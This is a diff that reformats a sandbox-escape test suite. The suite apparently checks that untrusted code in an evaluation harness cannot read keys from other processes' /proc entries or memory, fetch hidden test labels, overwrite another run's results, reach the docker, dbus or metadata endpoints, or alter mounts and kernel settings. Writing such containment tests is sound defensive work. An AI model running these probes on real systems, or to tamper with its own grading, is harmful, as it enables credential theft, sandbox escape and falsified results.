@@ -102,7 +102,8 @@ _LIBC = ctypes.CDLL(None, use_errno=True)
 PROTOCOL = "VALUE = 7\n"
 VICTIM = """
 import ctypes, signal, sys
-ctypes.CDLL(None).prctl(0x59616D61, ctypes.c_ulong(-1))  # PR_SET_PTRACER: any process may, where Yama would forbid it
+# PR_SET_PTRACER: any process may, where Yama would forbid it.
+ctypes.CDLL(None).prctl(0x59616D61, ctypes.c_ulong(-1))
 def note(number, frame):
     with open(sys.argv[1], "a") as file:
         print(number, file=file)
@@ -129,7 +130,11 @@ def escaped(why):
     loot("ESCAPED-" + NONCE + " " + why)
 
 def refuse(error):
-    refused.append(getattr(error, "strerror", None) or (str(error) if isinstance(error, str) else type(error).__name__ + ": " + str(error)))
+    if isinstance(error, str):
+        refused.append(error)
+    else:
+        text = type(error).__name__ + ": " + str(error)
+        refused.append(getattr(error, "strerror", None) or text)
 
 def finish():
     """The last lines: what refused it, and that the program came to its end."""
@@ -153,7 +158,10 @@ def attempt(action, *targets):
             refuse(error)
 
 def call(function, *arguments):
-    result = function(*(ctypes.c_long(value) if isinstance(value, int) else value for value in arguments))
+    values = []
+    for value in arguments:
+        values.append(ctypes.c_long(value) if isinstance(value, int) else value)
+    result = function(*values)
     if result == -1:
         raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
     return result
@@ -180,7 +188,10 @@ def hold(what):
     escaped("held " + what)
 
 def daemon(action=""):
-    """Leave a process behind: no parent, session, environment or terminal, deaf to signals; it holds a lock until WORK/stop is there."""
+    """Leave a process behind that holds a lock until WORK/stop is there.
+
+    It has no parent, session, environment or terminal, and is deaf to signals.
+    """
     code = f"""
 import fcntl, os, signal, time
 for number in (1, 2, 15):
@@ -823,7 +834,9 @@ refuse("it holds no key")""",
     ),
     Attack(
         "key_in_the_environment_of_any_process",
-        'attempt(planted, *(f"/proc/{pid}/environ" for pid in (VICTIM, PARENT, os.getppid(), *filter(str.isdigit, os.listdir("/proc")))))',
+        """
+pids = [VICTIM, PARENT, os.getppid(), *filter(str.isdigit, os.listdir("/proc"))]
+attempt(planted, *(f"/proc/{pid}/environ" for pid in pids))""",
     ),
     Attack(
         "key_in_the_memory_of_the_harness",
@@ -836,8 +849,10 @@ class Piece(ctypes.Structure):
     _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
 def copied(pid):
     here = ctypes.create_string_buffer(STACK[1] - STACK[0])
-    mine, theirs = Piece(ctypes.addressof(here), len(here)), Piece(STACK[0], len(here))
-    call(libc.syscall, CALLS["process_vm_readv"], pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
+    mine = Piece(ctypes.addressof(here), len(here))
+    theirs = Piece(STACK[0], len(here))
+    pieces = ctypes.byref(mine), 1, ctypes.byref(theirs), 1
+    call(libc.syscall, CALLS["process_vm_readv"], pid, *pieces, 0)
     return here.raw
 attempt(memory, VICTIM)
 attempt(copied, VICTIM)""",
@@ -851,7 +866,8 @@ def trace(pid):
     if libc.ptrace(16, pid, 0, 0) == -1:  # PTRACE_ATTACH
         raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
     os.waitpid(pid, 0)
-    words = [libc.ptrace(1, pid, address, 0) for address in range(STACK[0], STACK[1], 8)]  # PTRACE_PEEKTEXT
+    addresses = range(STACK[0], STACK[1], 8)
+    words = [libc.ptrace(1, pid, address, 0) for address in addresses]  # PTRACE_PEEKTEXT
     libc.ptrace(17, pid, 0, 0)
     return struct.pack(f"{len(words)}q", *words)
 attempt(trace, VICTIM)""",
@@ -859,7 +875,8 @@ attempt(trace, VICTIM)""",
     Attack(
         "command_lines_of_other_processes",
         """
-attempt(planted, *(f"/proc/{pid}/cmdline" for pid in (VICTIM, *filter(str.isdigit, os.listdir("/proc")))))
+pids = [VICTIM, *filter(str.isdigit, os.listdir("/proc"))]
+attempt(planted, *(f"/proc/{pid}/cmdline" for pid in pids))
 refuse("only its own are there")""",
         landlock_cannot="/proc is one tree, of which a program needs its own part",
     ),
@@ -894,9 +911,16 @@ if os.access("/etc/shadow", os.R_OK) and os.geteuid():
     Attack(
         "home_through_proc",
         """
-attempt(read, f"/proc/1/root{HOME}/.netrc", f"/proc/self/root{HOME}/.netrc", f"/proc/{VICTIM}/root{HOME}/.netrc",
-        f"/proc/{VICTIM}/cwd/.netrc", f"/proc/{PARENT}/root{HOME}/.netrc", f"/proc/self/cwd/{os.path.relpath(HOME)}/.netrc",
-        f"/proc/self/task/{os.getpid()}/root{HOME}/.netrc")""",
+attempt(
+    read,
+    f"/proc/1/root{HOME}/.netrc",
+    f"/proc/self/root{HOME}/.netrc",
+    f"/proc/{VICTIM}/root{HOME}/.netrc",
+    f"/proc/{VICTIM}/cwd/.netrc",
+    f"/proc/{PARENT}/root{HOME}/.netrc",
+    f"/proc/self/cwd/{os.path.relpath(HOME)}/.netrc",
+    f"/proc/self/task/{os.getpid()}/root{HOME}/.netrc",
+)""",
     ),
     Attack(
         "hidden_labels_by_path",
@@ -909,7 +933,12 @@ attempt(os.listdir, os.path.dirname(HIDDEN))""",
         """
 os.chdir(ARRAYS)
 attempt(os.listdir, "..", "../..", "../../..")
-attempt(read, "../unlabelled/info.json", "../../../../assay-hidden/digits/test_labels.npy", ARRAYS + "/../hidden/test_labels.npy")""",
+attempt(
+    read,
+    "../unlabelled/info.json",
+    "../../../../assay-hidden/digits/test_labels.npy",
+    ARRAYS + "/../hidden/test_labels.npy",
+)""",
     ),
     Attack(
         "hidden_labels_of_the_user",
@@ -940,7 +969,8 @@ attempt(use, *(int(name) for name in os.listdir("/proc/self/fd") if int(name) > 
         "keyring",
         """
 def fetch(keyring):
-    key = call(libc.syscall, CALLS["keyctl"], 10, keyring, b"user", NONCE.encode(), 0)  # KEYCTL_SEARCH
+    wanted = b"user", NONCE.encode()
+    key = call(libc.syscall, CALLS["keyctl"], 10, keyring, *wanted, 0)  # KEYCTL_SEARCH
     text = ctypes.create_string_buffer(4096)
     call(libc.syscall, CALLS["keyctl"], 11, key, text, len(text))  # KEYCTL_READ
     return text.value
@@ -1067,8 +1097,13 @@ attempt(take, OTHER_RUN + "/result.json", OTHER_RUN + "/code", OTHER_RUN)""",
     Attack(
         "another_run_through_proc",
         """
-attempt(overwrite, f"/proc/1/root{OTHER_RUN}/result.json", f"/proc/self/root{OTHER_RUN}/result.json",
-        f"/proc/self/cwd/../../run_1/result.json", f"/proc/{VICTIM}/root{OTHER_RUN}/result.json")""",
+attempt(
+    overwrite,
+    f"/proc/1/root{OTHER_RUN}/result.json",
+    f"/proc/self/root{OTHER_RUN}/result.json",
+    f"/proc/self/cwd/../../run_1/result.json",
+    f"/proc/{VICTIM}/root{OTHER_RUN}/result.json",
+)""",
     ),
     Attack(
         "write_its_own_record",
@@ -1287,7 +1322,8 @@ attempt(send, UDP)""",
         """
 def ask(address):
     name = b"".join(bytes([len(part)]) + part for part in (NONCE.encode(), b"example", b""))
-    socket.socket(type=socket.SOCK_DGRAM).sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name + b"\\0\\1\\0\\1", address)
+    question = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name + b"\\0\\1\\0\\1"
+    socket.socket(type=socket.SOCK_DGRAM).sendto(question, address)
 attempt(ask, DNS)""",
     ),
     Attack(
@@ -1315,17 +1351,26 @@ attempt(throw, "\\0" + NONCE + "-d")""",
     Attack(
         "sockets_of_services",
         """
-found = [SERVICE, "/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", f"/run/user/{os.getuid()}/bus"]
+paths = [
+    SERVICE,
+    "/run/docker.sock",
+    "/run/dbus/system_bus_socket",
+    "/run/systemd/private",
+    f"/run/user/{os.getuid()}/bus",
+]
 for start in ("/run", "/var/run", "/var/tmp"):
     for folder, folders, names in os.walk(start):
-        found += [path for name in names if stat.S_ISSOCK(os.lstat(path := os.path.join(folder, name)).st_mode)]
+        for name in names:
+            path = os.path.join(folder, name)
+            if stat.S_ISSOCK(os.lstat(path).st_mode):
+                paths.append(path)
 def greet(path):
-    made = socket.socket(socket.AF_UNIX)
-    made.settimeout(1)
-    made.connect(path)
-    made.sendall(NONCE.encode() if path == SERVICE else b"")
+    client = socket.socket(socket.AF_UNIX)
+    client.settimeout(1)
+    client.connect(path)
+    client.sendall(NONCE.encode() if path == SERVICE else b"")
     escaped("reached " + path)
-attempt(greet, *dict.fromkeys(found))""",
+attempt(greet, *dict.fromkeys(paths))""",
         landlock_cannot=SOCKET_FILES,
     ),
     Attack(
@@ -1342,7 +1387,12 @@ attempt(reach, ("169.254.169.254", 80))""",
 def make(kind):
     socket.socket(*kind).close()
     escaped(f"has a socket {kind}")
-attempt(make, (socket.AF_PACKET, socket.SOCK_RAW, 768), (socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET6, socket.SOCK_RAW, 58))""",
+attempt(
+    make,
+    (socket.AF_PACKET, socket.SOCK_RAW, 768),
+    (socket.AF_INET, socket.SOCK_RAW, 1),
+    (socket.AF_INET6, socket.SOCK_RAW, 58),
+)""",
     ),
     Attack(
         "sockets_of_the_hypervisor",
@@ -1630,7 +1680,11 @@ attempt(type_in, TERMINAL, "/dev/tty")""",
 KERNEL = (
     Attack(
         "user_name_space_by_unshare",
-        'attempt(lambda flags: call(libc.unshare, flags) or escaped("has a user name space of its own"), 0x10000000)',
+        """
+def unshare(flags):
+    call(libc.unshare, flags)
+    escaped("has a user name space of its own")
+attempt(unshare, 0x10000000)""",
     ),
     Attack(
         "user_name_space_by_clone",
@@ -1666,7 +1720,8 @@ if os.statvfs("/").f_flag & os.ST_RDONLY:  # nowhere else is a mount touched
         escaped("made a mount writable")
     attempt(remount, b"/", b"/usr", os.fsencode(ARRAYS), os.fsencode(WORK + "/main.py"))
     attempt(create, "/", "/usr")
-    attempt(lambda path: call(libc.umount2, path, 2), os.fsencode(WORK + "/main.py"), os.fsencode(ARRAYS))""",
+    places = os.fsencode(WORK + "/main.py"), os.fsencode(ARRAYS)
+    attempt(lambda path: call(libc.umount2, path, 2), *places)""",
     ),
     Attack(
         "chroot",
@@ -1686,7 +1741,8 @@ attempt(leave, "jail")""",
         "device_node",
         """
 def node(kind):
-    os.mknod(f"node{kind}", kind | 0o666, os.stat(WORK).st_dev if kind == stat.S_IFBLK else os.makedev(1, 1))
+    device = os.stat(WORK).st_dev if kind == stat.S_IFBLK else os.makedev(1, 1)
+    os.mknod(f"node{kind}", kind | 0o666, device)
 attempt(node, stat.S_IFBLK, stat.S_IFCHR)""",
     ),
     Attack(
@@ -1695,8 +1751,10 @@ attempt(node, stat.S_IFBLK, stat.S_IFCHR)""",
 def device(path):
     os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
     escaped("opened " + path)
-attempt(device, *(str(path) for path in Path("/dev").glob("*") if path.is_block_device()), "/proc/kcore")
-attempt(device, *(f"/dev/{name}" for name in ("mem", "port", "kmsg", "kvm", "fuse", "vhost-net", "vsock", "net/tun", "uinput")))""",
+blocks = [str(path) for path in Path("/dev").glob("*") if path.is_block_device()]
+names = "mem", "port", "kmsg", "kvm", "fuse", "vhost-net", "vsock", "net/tun", "uinput"
+attempt(device, *blocks, "/proc/kcore")
+attempt(device, *(f"/dev/{name}" for name in names))""",
     ),
     Attack(
         "settings_of_the_kernel",
@@ -1704,8 +1762,16 @@ attempt(device, *(f"/dev/{name}" for name in ("mem", "port", "kmsg", "kvm", "fus
 def writable(path):  # opened, not written
     os.close(os.open(path, os.O_WRONLY))
     escaped("could write " + path)
-attempt(writable, "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/modprobe", "/proc/sys/vm/drop_caches",
-        "/sys/kernel/uevent_helper", "/proc/sys/fs/binfmt_misc/register", "/sys/fs/cgroup/cgroup.procs")""",
+attempt(
+    writable,
+    "/proc/sys/kernel/core_pattern",
+    "/proc/sysrq-trigger",
+    "/proc/sys/kernel/modprobe",
+    "/proc/sys/vm/drop_caches",
+    "/sys/kernel/uevent_helper",
+    "/proc/sys/fs/binfmt_misc/register",
+    "/sys/fs/cgroup/cgroup.procs",
+)""",
     ),
     Attack(
         "rights_of_a_setuid_program",
